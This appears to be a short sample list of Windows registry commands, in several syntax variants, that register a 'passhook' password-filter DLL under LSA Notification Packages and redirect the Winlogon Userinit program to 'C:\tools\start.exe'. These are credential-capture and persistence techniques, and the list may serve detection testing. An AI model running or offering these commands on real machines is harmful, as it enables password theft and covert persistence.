Set-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\Lsa' -Name 'Notification Packages' -Value @('passhook') -Type MultiString
Set-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\Lsa' 'Notification Packages' 'rassfm', "passhook"
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon' -Name Userinit -Value 'C:\tools\start.exe'
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v "Notification Packages" /t REG_MULTI_SZ /d "passhook\0rassfm" /f
